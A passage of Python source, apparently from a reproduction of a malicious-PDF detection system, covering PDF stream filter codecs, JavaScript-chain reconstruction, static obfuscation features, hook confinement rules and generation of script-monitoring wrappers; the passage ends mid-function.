#: Nibble value of a hex digit, or -1 (shared with the tolerant lexer's
#: approach: table lookups instead of per-byte ``chr()``).
_HEX_VAL = tuple(
    int(chr(b), 16) if chr(b) in "0123456789abcdefABCDEF" else -1 for b in range(256)
)
_IS_WS = bytes(1 if chr(b).isspace() else 0 for b in range(256))
#: The hex digits, as a deletion table: ``body.translate(None, _HEX_DIGITS)``
#: is empty iff the body is clean hex.  (A ``(?:..{2})*`` regex would
#: do the same check but allocates a backtracking mark per repetition —
#: tens of MB on a long stream body.)
_HEX_DIGITS = bytes(b for b in range(256) if _HEX_VAL[b] >= 0)


def _ascii_hex_decode_raw(
    data: ByteSource, max_output: Optional[int] = None
) -> bytearray:
    del max_output  # output is at most half the input size
    end = data.find(b">")
    body = data[:end] if end >= 0 else data
    if len(body) % 2 == 0 and len(body.translate(None, _HEX_DIGITS)) == 0:
        # Fast path: clean, even-length body decodes in one C call
        # (unhexlify accepts any byte buffer, so no bytes() copy).
        return bytearray(binascii.unhexlify(body))
    out = bytearray()
    hexval, ws = _HEX_VAL, _IS_WS
    hi = -1
    for byte in body:
        value = hexval[byte]
        if value >= 0:
            if hi < 0:
                hi = value
            else:
                out.append((hi << 4) | value)
                hi = -1
        elif ws[byte]:
            continue
        else:
            raise FilterError(f"bad ASCIIHex digit: {chr(byte)!r}")
    if hi >= 0:  # odd count: final digit is padded with 0
        out.append(hi << 4)
    return out


def ascii_hex_decode(data: ByteSource, max_output: Optional[int] = None) -> bytes:
    return bytes(_ascii_hex_decode_raw(data, max_output))


def ascii_hex_encode(data: bytes) -> bytes:
    return data.hex().upper().encode("ascii") + b">"


# ---------------------------------------------------------------------------
# ASCII85

#: Every byte ``chr(b).isspace()`` considers whitespace (precomputed so
#: stripping uses one C-level ``translate`` instead of per-byte chr()).
_A85_STRIP = bytes(b for b in range(256) if chr(b).isspace())


def _ascii85_decode_raw(
    data: ByteSource, max_output: Optional[int] = None
) -> bytearray:
    del max_output  # output is at most 4/5 of the input size
    text = data.rstrip()
    if text.endswith(b"~>"):
        text = text[:-2]
    text = text.translate(None, _A85_STRIP)
    try:
        return _a85_decode_body(text)
    except ValueError as exc:
        raise FilterError(f"bad ASCII85 data: {exc}") from exc


def ascii85_decode(data: ByteSource, max_output: Optional[int] = None) -> bytes:
    return bytes(_ascii85_decode_raw(data, max_output))


def _a85_decode_body(text: bytes) -> bytearray:
    out = bytearray()
    group: List[int] = []
    for byte in text:
        if byte == ord("z") and not group:
            out.extend(b"\0\0\0\0")
            continue
        if not (33 <= byte <= 117):
            raise ValueError(f"character out of range: {byte}")
        group.append(byte - 33)
        if len(group) == 5:
            out.extend(_a85_group_to_bytes(group, 4))
            group.clear()
    if group:
        if len(group) == 1:
            raise ValueError("single trailing character")
        pad = 5 - len(group)
        group.extend([84] * pad)
        out.extend(_a85_group_to_bytes(group, 4 - pad))
    return out


def _a85_group_to_bytes(group: List[int], take: int) -> bytes:
    value = 0
    for digit in group:
        value = value * 85 + digit
    return value.to_bytes(4, "big")[:take]


def ascii85_encode(data: bytes) -> bytes:
    out = bytearray()
    for i in range(0, len(data), 4):
        chunk = data[i : i + 4]
        pad = 4 - len(chunk)
        value = int.from_bytes(chunk + b"\0" * pad, "big")
        if value == 0 and pad == 0:
            out.append(ord("z"))
            continue
        digits: List[int] = []
        for _ in range(5):
            digits.append(value % 85)
            value //= 85
        digits.reverse()
        encoded = bytes(d + 33 for d in digits)
        out.extend(encoded[: 5 - pad])
    out.extend(b"~>")
    return bytes(out)


# ---------------------------------------------------------------------------
# RunLength


def _run_length_decode_raw(
    data: ByteSource, max_output: Optional[int] = None
) -> bytearray:
    out = bytearray()
    i = 0
    n = len(data)
    while i < n:
        length = data[i]
        if length == 128:  # EOD
            break
        if length < 128:
            chunk = data[i + 1 : i + 2 + length]
            if len(chunk) != length + 1:
                raise FilterError("truncated literal run")
            out.extend(chunk)
            i += 2 + length
        else:
            if i + 1 >= n:
                raise FilterError("truncated repeat run")
            out.extend(bytes([data[i + 1]]) * (257 - length))
            i += 2
        # Check *after* extending: a pre-extend check would let the
        # final run overshoot the budget by up to 128 bytes and still
        # be returned.
        _check_output(len(out), max_output, "RunLengthDecode")
    return out


def run_length_decode(data: ByteSource, max_output: Optional[int] = None) -> bytes:
    return bytes(_run_length_decode_raw(data, max_output))


def run_length_encode(data: bytes) -> bytes:
    out = bytearray()
    i = 0
    n = len(data)
    while i < n:
        # Find a repeat run.
        run = 1
        while i + run < n and run < 128 and data[i + run] == data[i]:
            run += 1
        if run >= 2:
            out.append(257 - run)
            out.append(data[i])
            i += run
            continue
        # Literal run up to the next repeat of length >= 3 (or 128 bytes).
        start = i
        i += 1
        while i < n and i - start < 128:
            if i + 2 < n and data[i] == data[i + 1] == data[i + 2]:
                break
            i += 1
        out.append(i - start - 1)
        out.extend(data[start:i])
    out.append(128)
    return bytes(out)


# ---------------------------------------------------------------------------
# LZW (PDF variant: 8-bit codes, early change = 1, MSB-first bit packing)


_LZW_CLEAR = 256
_LZW_EOD = 257


def _lzw_decode_raw(data: ByteSource, max_output: Optional[int] = None) -> bytearray:
    out = bytearray()
    table: Dict[int, bytes] = {}

    def reset_table() -> None:
        table.clear()
        for i in range(256):
            table[i] = bytes([i])

    reset_table()
    next_code = 258
    code_width = 9
    prev: bytes = b""
    bit_buffer = 0
    bit_count = 0

    for byte in data:
        bit_buffer = (bit_buffer << 8) | byte
        bit_count += 8
        while bit_count >= code_width:
            bit_count -= code_width
            code = (bit_buffer >> bit_count) & ((1 << code_width) - 1)
            if code == _LZW_CLEAR:
                reset_table()
                next_code = 258
                code_width = 9
                prev = b""
                continue
            if code == _LZW_EOD:
                # The EOD return path enforces the same post-append
                # guarantee as the loop exit below.
                _check_output(len(out), max_output, "LZWDecode")
                return out
            if code in table:
                entry = table[code]
            elif code == next_code and prev:
                entry = prev + prev[:1]
            else:
                raise FilterError(f"bad LZW code {code}")
            out.extend(entry)
            _check_output(len(out), max_output, "LZWDecode")
            if prev:
                table[next_code] = prev + entry[:1]
                next_code += 1
            # "Early change": widen before the table fills.  The decoder
            # lags the encoder by one entry, so its threshold sits one
            # code earlier than the encoder's (+2 vs +1).
            if next_code + 2 >= (1 << code_width) and code_width < 12:
                code_width += 1
            prev = entry
    _check_output(len(out), max_output, "LZWDecode")
    return out


def lzw_decode(data: ByteSource, max_output: Optional[int] = None) -> bytes:
    return bytes(_lzw_decode_raw(data, max_output))


def lzw_encode(data: bytes) -> bytes:
    table: Dict[bytes, int] = {bytes([i]): i for i in range(256)}
    next_code = 258
    code_width = 9

    out = bytearray()
    bit_buffer = 0
    bit_count = 0

    def emit(code: int, width: int) -> None:
        nonlocal bit_buffer, bit_count
        bit_buffer = (bit_buffer << width) | code
        bit_count += width
        while bit_count >= 8:
            bit_count -= 8
            out.append((bit_buffer >> bit_count) & 0xFF)

    emit(_LZW_CLEAR, code_width)
    current = b""
    for byte in data:
        candidate = current + bytes([byte])
        if candidate in table:
            current = candidate
            continue
        emit(table[current], code_width)
        table[candidate] = next_code
        next_code += 1
        if next_code + 1 >= (1 << code_width) and code_width < 12:
            code_width += 1
        if next_code >= 4095:
            emit(_LZW_CLEAR, code_width)
            table = {bytes([i]): i for i in range(256)}
            next_code = 258
            code_width = 9
        current = bytes([byte])
    if current:
        emit(table[current], code_width)
    emit(_LZW_EOD, code_width)
    if bit_count:
        out.append((bit_buffer << (8 - bit_count)) & 0xFF)
    return bytes(out)


# ---------------------------------------------------------------------------
# Registry and cascade handling


_RawDecoder = Callable[..., bytearray]

#: name -> raw (bytearray-returning) decoder; the cascade runner uses
#: these so only the final layer materialises a ``bytes`` object.
_RAW_DECODERS: Dict[str, _RawDecoder] = {
    "FlateDecode": _flate_decode_raw,
    "Fl": _flate_decode_raw,
    "ASCIIHexDecode": _ascii_hex_decode_raw,
    "AHx": _ascii_hex_decode_raw,
    "ASCII85Decode": _ascii85_decode_raw,
    "A85": _ascii85_decode_raw,
    "RunLengthDecode": _run_length_decode_raw,
    "RL": _run_length_decode_raw,
    "LZWDecode": _lzw_decode_raw,
    "LZW": _lzw_decode_raw,
}

_ENCODERS: Dict[str, Callable[[bytes], bytes]] = {
    "FlateDecode": flate_encode,
    "Fl": flate_encode,
    "ASCIIHexDecode": ascii_hex_encode,
    "AHx": ascii_hex_encode,
    "ASCII85Decode": ascii85_encode,
    "A85": ascii85_encode,
    "RunLengthDecode": run_length_encode,
    "RL": run_length_encode,
    "LZWDecode": lzw_encode,
    "LZW": lzw_encode,
}

SUPPORTED_FILTERS = tuple(sorted(set(_RAW_DECODERS) - {"Fl", "AHx", "A85", "RL", "LZW"}))


def decode(filter_name: str, data: ByteSource, max_output: Optional[int] = None) -> bytes:
    """Apply one decode filter by name, bounding expansion if asked."""
    decoder = _RAW_DECODERS.get(str(filter_name))
    if decoder is None:
        raise FilterError(f"unsupported filter: {filter_name}")
    return bytes(decoder(data, max_output=max_output))


def encode(filter_name: str, data: bytes) -> bytes:
    """Apply one encode filter by name."""
    encoder = _ENCODERS.get(str(filter_name))
    if encoder is None:
        raise FilterError(f"unsupported filter: {filter_name}")
    return encoder(data)


def decode_stream(
    stream: PDFStream, budget: Optional["limits_mod.ScanBudget"] = None
) -> bytes:
    """Run a stream's full filter cascade, outermost filter first.

    Enforces the active :class:`~repro.limits.ScanBudget` (or an
    explicit one): cascade depth, per-stream output bytes charged
    against the per-document total, and the scan deadline.

    Layers hand each other their working ``bytearray`` directly; only
    the final result is materialised as ``bytes``.  Per-document
    accounting is keyed on the stream's parse-time ordinal
    (:attr:`~repro.pdf.objects.PDFStream.budget_key`), never on
    ``id(stream)`` — CPython reuses ids after GC, which made long batch
    scans undercount the per-document budget.
    """
    if budget is None:
        budget = limits_mod.active()
    data: ByteSource = stream.raw_data
    names = stream.filters
    max_output: Optional[int] = None
    if budget is not None:
        budget.check_deadline()
        budget.check_filter_depth(len(names))
        max_output = budget.max_stream_output
    for name in names:
        decoder = _RAW_DECODERS.get(str(name))
        if decoder is None:
            raise FilterError(f"unsupported filter: {name}")
        data = decoder(data, max_output=max_output)
    result = data if isinstance(data, bytes) else bytes(data)
    if budget is not None:
        budget.charge_stream(stream_budget_key(stream), len(result))
    return result


def stream_budget_key(stream: PDFStream) -> int:
    """Stable per-document accounting identity for a stream object.

    Prefers the construction-time ordinal (never reused within a
    process); falls back to ``id`` only for foreign stream-likes that
    predate the attribute.
    """
    key = getattr(stream, "budget_key", None)
    return key if isinstance(key, int) else id(stream)


def encode_cascade(data: bytes, filter_names: List[str]) -> bytes:
    """Encode ``data`` so that decoding ``filter_names`` in order recovers it."""
    for name in reversed(filter_names):
        data = encode(name, data)
    return data


def cascade_names(levels: int, base: str = "FlateDecode") -> List[str]:
    """Produce a filter cascade with the requested number of levels.

    Used by the corpus generator to synthesise the multi-level encoding
    obfuscation (feature F5).  Levels beyond the first alternate between
    Flate and ASCIIHex so cascades stay decodable.
    """
    if levels <= 0:
        return []
    names = [base]
    alt = ["ASCIIHexDecode", "FlateDecode", "ASCII85Decode", "RunLengthDecode"]
    for i in range(levels - 1):
        names.append(alt[i % len(alt)])
    return names


def make_name(name: str) -> PDFName:
    return PDFName(name)
