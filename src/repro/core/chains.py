"""JavaScript chain reconstruction (§III-C, first step).

A *JavaScript chain* is a reference chain of indirect objects that
contains at least one object carrying JavaScript (``/JS`` or
``/JavaScript``).  Reconstruction follows the paper's algorithm:

1. scan the document for the keywords ``/JS`` and ``/JavaScript``
   (decoded — hex escapes like ``/JavaScr#69pt`` are resolved by the
   name parser, so the scan is obfuscation-immune);
2. recursively *backtrack* to find the ancestors of each hit (objects
   that reference it, transitively, up to a root such as the catalog);
3. *forward search* for descendants (objects the hit references,
   e.g. the code stream, ``/Next`` actions, empty decoy terminators).

The union of objects on all chains over the total object count is
static feature F1 ("ratio of PDF objects on Javascript chain"), which
Fig. 6 shows separates benign from malicious sharply at 0.2.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set

from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFObject,
    PDFRef,
    PDFStream,
)

#: Keywords whose presence marks a JavaScript-bearing object [29].
JS_KEYWORDS = ("JS", "JavaScript")

#: Trigger keys that auto-execute scripts when a document is opened.
TRIGGER_KEYS = ("OpenAction", "AA", "Names")


@dataclass
class JavascriptChain:
    """One reconstructed chain."""

    #: Objects on the chain, root-most first.
    members: List[PDFRef]
    #: The object whose dictionary carries /JS (the hit that seeded it).
    js_ref: PDFRef
    #: True when the chain hangs off a triggering action (/OpenAction, /AA,
    #: the /Names JavaScript tree) — only those get instrumented.
    triggered: bool = False
    #: Trigger description, e.g. "OpenAction" or "Names".
    trigger: Optional[str] = None

    def __len__(self) -> int:
        return len(self.members)


@dataclass
class ChainAnalysis:
    """Everything the front-end learns from chain reconstruction."""

    chains: List[JavascriptChain] = field(default_factory=list)
    total_objects: int = 0
    chain_objects: Set[PDFRef] = field(default_factory=set)

    @property
    def ratio(self) -> float:
        """Feature F1: |objects on JS chains| / |all objects|."""
        if self.total_objects == 0:
            return 0.0
        return len(self.chain_objects) / self.total_objects

    @property
    def has_javascript(self) -> bool:
        return bool(self.chains)

    def triggered_chains(self) -> List[JavascriptChain]:
        return [chain for chain in self.chains if chain.triggered]


def _iter_refs(value: PDFObject) -> Iterable[PDFRef]:
    """Yield every reference reachable inside a direct object value."""
    stack = [value]
    while stack:
        current = stack.pop()
        if isinstance(current, PDFRef):
            yield current
        elif isinstance(current, PDFArray):
            stack.extend(current)
        elif isinstance(current, PDFStream):
            stack.append(current.dictionary)
        elif isinstance(current, PDFDict):
            stack.extend(current.values())


def _mentions_javascript(value: PDFObject) -> bool:
    """Does this object carry /JS or /JavaScript (decoded names)?"""
    stack = [value]
    while stack:
        current = stack.pop()
        if isinstance(current, PDFStream):
            current = current.dictionary
        if isinstance(current, PDFDict):
            for key, item in current.items():
                if isinstance(key, PDFName) and str(key) in JS_KEYWORDS:
                    return True
                if isinstance(item, PDFName) and str(item) in JS_KEYWORDS:
                    return True
                if isinstance(item, (PDFDict, PDFArray, PDFStream)):
                    stack.append(item)
        elif isinstance(current, PDFArray):
            stack.extend(
                item for item in current if isinstance(item, (PDFDict, PDFArray, PDFStream, PDFName))
            )
        elif isinstance(current, PDFName) and str(current) in JS_KEYWORDS:
            return True
    return False


def _trigger_roots(document: PDFDocument) -> Dict[PDFRef, str]:
    """References hanging directly off a trigger key, with labels."""
    roots: Dict[PDFRef, str] = {}
    catalog = document.catalog
    open_action = catalog.get("OpenAction")
    for ref in _iter_refs(open_action) if open_action is not None else ():
        roots.setdefault(ref, "OpenAction")
    aa = catalog.get("AA")
    if aa is not None:
        if isinstance(aa, PDFRef):
            roots.setdefault(aa, "AA")
        for ref in _iter_refs(document.resolve_dict(aa)):
            roots.setdefault(ref, "AA")
    for page in document.pages():
        page_aa = page.get("AA")
        if page_aa is None:
            continue
        if isinstance(page_aa, PDFRef):
            roots.setdefault(page_aa, "AA")
        for ref in _iter_refs(document.resolve_dict(page_aa)):
            roots.setdefault(ref, "AA")
    names = catalog.get("Names")
    if names is not None:
        if isinstance(names, PDFRef):
            roots.setdefault(names, "Names")
        names_dict = document.resolve_dict(names)
        js_tree = names_dict.get("JavaScript")
        if js_tree is not None:
            if isinstance(js_tree, PDFRef):
                roots.setdefault(js_tree, "Names")
            for ref in _iter_refs(document.resolve_dict(js_tree)):
                roots.setdefault(ref, "Names")
    return roots


def analyze_chains(document: PDFDocument) -> ChainAnalysis:
    """Reconstruct every JavaScript chain in ``document``."""
    store = document.store
    analysis = ChainAnalysis(total_objects=len(store))
    if not len(store):
        return analysis

    # Reverse reference graph for backtracking.
    referrers: Dict[PDFRef, Set[PDFRef]] = {}
    forward: Dict[PDFRef, Set[PDFRef]] = {}
    js_hits: List[PDFRef] = []
    for entry in store:
        outgoing = set(_iter_refs(entry.value))
        forward[entry.ref] = outgoing
        for target in outgoing:
            referrers.setdefault(target, set()).add(entry.ref)
        if _mentions_javascript(entry.value):
            js_hits.append(entry.ref)

    trigger_roots = _trigger_roots(document)

    for hit in js_hits:
        ancestors = _closure(hit, referrers)
        descendants = _closure(hit, forward)
        members_set = ancestors | {hit} | descendants
        # Order members root-most first (ancestors by distance, then hit,
        # then descendants).
        members = _ordered_members(hit, ancestors, descendants, referrers, forward)
        trigger = None
        for member in members:
            if member in trigger_roots:
                trigger = trigger_roots[member]
                break
        chain = JavascriptChain(
            members=members,
            js_ref=hit,
            triggered=trigger is not None,
            trigger=trigger,
        )
        analysis.chains.append(chain)
        analysis.chain_objects.update(members_set)
    return analysis


def _closure(start: PDFRef, graph: Dict[PDFRef, Set[PDFRef]]) -> Set[PDFRef]:
    seen: Set[PDFRef] = set()
    stack = list(graph.get(start, ()))
    while stack:
        current = stack.pop()
        if current in seen or current == start:
            continue
        seen.add(current)
        stack.extend(graph.get(current, ()))
    return seen


def _ordered_members(
    hit: PDFRef,
    ancestors: Set[PDFRef],
    descendants: Set[PDFRef],
    referrers: Dict[PDFRef, Set[PDFRef]],
    forward: Dict[PDFRef, Set[PDFRef]],
) -> List[PDFRef]:
    """BFS distance ordering: farthest ancestor ... hit ... descendants."""
    up: List[PDFRef] = []
    frontier = {hit}
    seen = {hit}
    while True:
        next_frontier: Set[PDFRef] = set()
        for node in frontier:
            for parent in referrers.get(node, ()):
                if parent in ancestors and parent not in seen:
                    next_frontier.add(parent)
                    seen.add(parent)
        if not next_frontier:
            break
        up.extend(sorted(next_frontier, key=lambda r: (r.num, r.gen)))
        frontier = next_frontier
    up.reverse()

    down: List[PDFRef] = []
    frontier = {hit}
    seen_down = {hit}
    while True:
        next_frontier = set()
        for node in frontier:
            for child in forward.get(node, ()):
                if child in descendants and child not in seen_down:
                    next_frontier.add(child)
                    seen_down.add(child)
        if not next_frontier:
            break
        down.extend(sorted(next_frontier, key=lambda r: (r.num, r.gen)))
        frontier = next_frontier
    return up + [hit] + down
