"""The five novel static features (§III-B).

F1  Ratio of PDF objects on JavaScript chains.
F2  PDF header obfuscation (displaced header or invalid version).
F3  Hexadecimal code in keywords (``/JavaScr#69pt``) — JS chains only.
F4  Count of empty objects terminating JS chains.
F5  Maximum levels of stream encoding on JS chains (max, not average —
    the average is mimicry-prone, §III-B).

Binarisation thresholds follow Table VII.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Set

from repro.core.chains import ChainAnalysis, analyze_chains
from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFObject,
    PDFRef,
    PDFStream,
)
from repro.pdf.parser import HeaderInfo


@dataclass
class StaticFeatures:
    """Raw static feature values plus their Table VII binarisation."""

    js_chain_ratio: float
    header_obfuscated: bool
    hex_code_in_keyword: bool
    empty_object_count: int
    encoding_levels: int
    has_javascript: bool

    # Table VII thresholds.
    RATIO_THRESHOLD = 0.2
    EMPTY_THRESHOLD = 1
    ENCODING_THRESHOLD = 2

    @property
    def f1(self) -> int:
        return 1 if self.js_chain_ratio >= self.RATIO_THRESHOLD else 0

    @property
    def f2(self) -> int:
        return 1 if self.header_obfuscated else 0

    @property
    def f3(self) -> int:
        return 1 if self.hex_code_in_keyword else 0

    @property
    def f4(self) -> int:
        return 1 if self.empty_object_count >= self.EMPTY_THRESHOLD else 0

    @property
    def f5(self) -> int:
        return 1 if self.encoding_levels >= self.ENCODING_THRESHOLD else 0

    def binary(self) -> tuple:
        return (self.f1, self.f2, self.f3, self.f4, self.f5)

    def score_contribution(self) -> int:
        return sum(self.binary())


def _name_uses_hex(name: object) -> bool:
    return isinstance(name, PDFName) and name.uses_hex_escape


def _object_uses_hex_keyword(value: PDFObject) -> bool:
    """Any ``#xx``-escaped name (key or value) inside this object?"""
    stack = [value]
    while stack:
        current = stack.pop()
        if isinstance(current, PDFStream):
            current = current.dictionary
        if isinstance(current, PDFDict):
            for key, item in current.items():
                if _name_uses_hex(key) or _name_uses_hex(item):
                    return True
                if isinstance(item, (PDFDict, PDFArray, PDFStream)):
                    stack.append(item)
        elif isinstance(current, PDFArray):
            for item in current:
                if _name_uses_hex(item):
                    return True
                if isinstance(item, (PDFDict, PDFArray, PDFStream)):
                    stack.append(item)
    return False


def _is_empty_object(value: PDFObject) -> bool:
    if isinstance(value, PDFDict) and not isinstance(value, PDFStream):
        return len(value) == 0
    if isinstance(value, PDFStream):
        return len(value.dictionary) == 0 and not value.raw_data
    return False


def _max_encoding_levels(document: PDFDocument, refs: Set[PDFRef]) -> int:
    deepest = 0
    for ref in refs:
        if ref not in document.store:
            continue
        value = document.store[ref].value
        if isinstance(value, PDFStream):
            deepest = max(deepest, value.encoding_levels)
    return deepest


def extract_static_features(
    document: PDFDocument,
    chains: Optional[ChainAnalysis] = None,
    header: Optional[HeaderInfo] = None,
) -> StaticFeatures:
    """Compute F1–F5 for ``document``.

    ``chains`` may be passed in when the caller already reconstructed
    them (the instrumenter does, to avoid doing the work twice).
    ``header`` defaults to the header info recorded at parse time.
    """
    analysis = chains if chains is not None else analyze_chains(document)
    header_info = header if header is not None else document.header

    chain_refs: Set[PDFRef] = set(analysis.chain_objects)

    hex_in_keyword = False
    empty_count = 0
    for ref in chain_refs:
        if ref not in document.store:
            continue
        value = document.store[ref].value
        if not hex_in_keyword and _object_uses_hex_keyword(value):
            hex_in_keyword = True
        if _is_empty_object(value):
            empty_count += 1

    return StaticFeatures(
        js_chain_ratio=analysis.ratio,
        header_obfuscated=header_info.obfuscated,
        hex_code_in_keyword=hex_in_keyword,
        empty_object_count=empty_count,
        encoding_levels=_max_encoding_levels(document, chain_refs),
        has_javascript=analysis.has_javascript,
    )
