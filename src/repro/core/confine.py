"""Confinement rules (Table III).

Two halves, exactly as the paper splits them:

* **Hook DLL side** (executes inside the reader process, before the
  original API): malware dropping passes through (the detector tracks
  and later isolates); process creation is rejected (the detector
  re-launches the target in the sandbox); DLL injection is always
  rejected.
* **Runtime detector side**: maintain the downloaded-executable list,
  run rejected targets in Sandboxie, and on alert terminate/isolate —
  implemented in :class:`repro.core.runtime_monitor.RuntimeMonitor`.
"""

from __future__ import annotations

from typing import Dict

from repro.winapi.hooks import HookAction, HookRule
from repro.winapi.process import Process
from repro.winapi.syscalls import API, SyscallEvent


def build_hook_rules(whitelisted_programs: tuple = ()) -> Dict[str, HookRule]:
    """The per-API decisions the hook DLL enforces locally."""

    def allow(_process: Process, _event: SyscallEvent) -> HookAction:
        return HookAction.PASS

    def reject(_process: Process, _event: SyscallEvent) -> HookAction:
        return HookAction.REJECT

    def reject_process_creation(_process: Process, event: SyscallEvent) -> HookAction:
        image = str(event.args.get("image", ""))
        base = image.split("\\")[-1]
        if base in whitelisted_programs or image in whitelisted_programs:
            return HookAction.PASS
        # Rejected here; the runtime detector re-invokes it in Sandboxie.
        return HookAction.REJECT

    rules: Dict[str, HookRule] = {}
    for api in API.MALWARE_DROP:
        rules[api] = allow       # "Before alert, call original API."
    for api in API.NETWORK:
        rules[api] = allow       # observed only
    for api in API.MEMORY_SEARCH:
        rules[api] = allow       # observed only
    for api in API.PROCESS_CREATE:
        rules[api] = reject_process_creation
    for api in API.DLL_INJECT:
        rules[api] = reject      # "Always reject."
    return rules
