"""Context monitoring code generation (§III-C, Figure 3).

For each instrumented script we emit:

* a **prologue** that sends the keyed ``enter`` message to the runtime
  detector over SOAP;
* **method wrappers** for the Table IV runtime-script methods
  (``Doc.addScript``, ``Doc.setAction``, ``Doc.setPageAction``,
  ``Bookmark.setAction``) and the delayed-execution pair
  (``app.setTimeOut`` / ``app.setInterval``) — dynamically added or
  delayed scripts get their own enter/leave wrapping, defeating the
  staged and delayed-execution attacks of §IV-B;
* the original script, stored **encrypted** in a string and executed
  through ``eval(decrypt(...))`` — the script cannot run without the
  monitoring code taking control first, defeating the runtime patching
  attack;
* an **epilogue** (in a ``finally``) sending the keyed ``leave``
  message.

Anti-mimicry measures (§IV-B): the key is random, identifier names and
statement order are randomised per document, and fake monitoring-code
copies carrying decoy keys are planted; any message with a wrong key is
treated as an attack ("zero tolerance").
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

#: Loopback endpoint of the detector's tiny SOAP server.
SOAP_HOST = "127.0.0.1"
SOAP_PORT = 48621
SOAP_URL = f"http://{SOAP_HOST}:{SOAP_PORT}/ctxmon"

ENCRYPTION_SCHEMES = ("shift", "xor", "reverse-shift")


def js_string_literal(text: str) -> str:
    """Encode ``text`` as a double-quoted JS string literal.

    This is the paper's "scan the code and add '\\'" escaping step,
    done properly: quotes, backslashes and non-printable characters are
    escaped so arbitrary script bodies round-trip through eval().
    """
    out: List[str] = ['"']
    for ch in text:
        code = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif 0x20 <= code <= 0x7E:
            out.append(ch)
        else:
            out.append("\\u%04x" % code)
    out.append('"')
    return "".join(out)


@dataclass
class EncryptedScript:
    scheme: str
    key: int
    ciphertext: str


def encrypt_script(code: str, scheme: str, key: int) -> EncryptedScript:
    """Encrypt a script body for the chosen scheme."""
    if scheme == "shift":
        ciphertext = "".join(chr((ord(c) + key) % 65536) for c in code)
    elif scheme == "xor":
        ciphertext = "".join(chr(ord(c) ^ key) for c in code)
    elif scheme == "reverse-shift":
        ciphertext = "".join(chr((ord(c) + key) % 65536) for c in reversed(code))
    else:
        raise ValueError(f"unknown scheme {scheme!r}")
    return EncryptedScript(scheme=scheme, key=key, ciphertext=ciphertext)


def decrypt_script(encrypted: EncryptedScript) -> str:
    """Python-side inverse (used by tests and de-instrumentation checks)."""
    scheme, key, data = encrypted.scheme, encrypted.key, encrypted.ciphertext
    if scheme == "shift":
        return "".join(chr((ord(c) - key) % 65536) for c in data)
    if scheme == "xor":
        return "".join(chr(ord(c) ^ key) for c in data)
    if scheme == "reverse-shift":
        return "".join(chr((ord(c) - key) % 65536) for c in reversed(data))
    raise ValueError(f"unknown scheme {scheme!r}")


def _decryptor_js(prefix: str, scheme: str, key: int) -> str:
    """Emit the in-document JS decryptor for ``scheme``.

    Builds the plaintext through an array join (one final allocation)
    so decryption of large scripts does not itself look like a spray.
    """
    if scheme == "shift":
        expr = f"(s.charCodeAt(i) - {key} + 65536) % 65536"
        order = "i = 0; i < s.length; i++"
    elif scheme == "xor":
        expr = f"s.charCodeAt(i) ^ {key}"
        order = "i = 0; i < s.length; i++"
    elif scheme == "reverse-shift":
        expr = f"(s.charCodeAt(i) - {key} + 65536) % 65536"
        order = "i = s.length - 1; i >= 0; i--"
    else:
        raise ValueError(f"unknown scheme {scheme!r}")
    return (
        f"var {prefix}dec = function(s) {{"
        f" var a = [];"
        f" for (var {order}) {{ a[a.length] = String.fromCharCode({expr}); }}"
        f" return a.join('');"
        f" }};"
    )


@dataclass
class GeneratedMonitorCode:
    """The wrapped script plus everything needed to reason about it."""

    code: str
    key_text: str
    scheme: str
    cipher_key: int
    seq: int
    fake_keys: List[str] = field(default_factory=list)


class MonitorCodeGenerator:
    """Generates randomised context monitoring code for one document."""

    def __init__(
        self,
        key_text: str,
        soap_url: str = SOAP_URL,
        seed: Optional[int] = None,
        fake_copies: int = 2,
        wrap_dynamic_methods: bool = True,
    ) -> None:
        self.key_text = key_text
        self.soap_url = soap_url
        self.rng = random.Random(seed if seed is not None else hash(key_text) & 0x7FFFFFFF)
        self.fake_copies = fake_copies
        self.wrap_dynamic_methods = wrap_dynamic_methods

    # -- small helpers ----------------------------------------------------

    def _prefix(self) -> str:
        return "__" + "".join(self.rng.choice("abcdefghjkmnpqrstuvwxyz") for _ in range(6))

    def _fake_key(self) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(24)) + ":" + "".join(
            self.rng.choice("0123456789abcdef") for _ in range(24)
        )

    def _soap_call(self, ctx: str, key_expr: str, seq: int, dyn: bool = False) -> str:
        dyn_field = ", dyn: 1" if dyn else ""
        return (
            f"SOAP.request({{cURL: {js_string_literal(self.soap_url)}, "
            f"oRequest: {{ctx: {js_string_literal(ctx)}, key: {key_expr}, seq: {seq}{dyn_field}}}}});"
        )

    # -- main entry -------------------------------------------------------------

    def wrap_script(self, original: str, seq: int = 1) -> GeneratedMonitorCode:
        """Produce the instrumented replacement for ``original``."""
        prefix = self._prefix()
        scheme = self.rng.choice(ENCRYPTION_SCHEMES)
        cipher_key = self.rng.randint(3, 4000)
        encrypted = encrypt_script(original, scheme, cipher_key)

        key_var = f"{prefix}k"
        url_var = f"{prefix}u"
        parts: List[str] = [
            f"var {key_var} = {js_string_literal(self.key_text)};",
            f"var {url_var} = {js_string_literal(self.soap_url)};",
            self._soap_call("enter", key_var, seq),
        ]

        fake_keys: List[str] = []
        decoys: List[str] = []
        for index in range(self.fake_copies):
            fake = self._fake_key()
            fake_keys.append(fake)
            decoy_name = f"{prefix}f{index}"
            decoys.append(
                f"var {decoy_name} = function() {{"
                f" var k = {js_string_literal(fake)};"
                f" if (k.length < 0) {{ {self._soap_call('enter', 'k', seq)} }}"
                f" return k.length; }};"
            )

        wrappers = self._dynamic_wrappers(prefix, key_var, seq) if self.wrap_dynamic_methods else []

        body = [
            _decryptor_js(prefix, scheme, cipher_key),
            f"try {{ eval({prefix}dec({js_string_literal(encrypted.ciphertext)})); }}"
            f" finally {{ {self._soap_call('leave', key_var, seq)} }}",
        ]

        # Randomise placement of decoys among the structural statements
        # (§IV-B: "randomizing the structure of the context monitoring
        # code ... creating copies of fake context monitoring code").
        middle = decoys + wrappers
        self.rng.shuffle(middle)
        code = "\n".join(parts + middle + body)
        return GeneratedMonitorCode(
            code=code,
